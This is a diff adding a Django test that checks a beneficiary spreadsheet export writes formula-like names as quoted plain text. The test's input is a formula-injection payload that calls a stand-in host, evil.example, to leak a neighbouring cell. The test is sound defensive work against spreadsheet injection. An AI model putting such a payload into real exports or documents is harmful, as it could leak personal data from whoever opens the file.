@@ -92,3 +92,15 @@ def test_export_masks_the_cccd_for_readers(client, users):
     )
     assert not any(r[4] == "001190055555" for r in rows)
     assert any(r[4] == "001******555" for r in rows)
+
+
+@pytest.mark.django_db
+def test_a_formula_like_name_is_exported_as_plain_text(client, users):
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")'
+    BeneficiaryFactory(name=hostile, commune=commune_of(14), address="+84 Bản Mòng")
+    client.force_login(users["sct-sonla"])
+    sheet = _sheet(client.get(reverse("beneficiary-export"), {"q": "evil"}))
+    name, address = sheet["B2"], sheet["I2"]
+    assert (name.value, name.data_type) == (hostile, "s")
+    assert (address.value, address.data_type) == ("+84 Bản Mòng", "s")
+    assert name.quotePrefix and address.quotePrefix
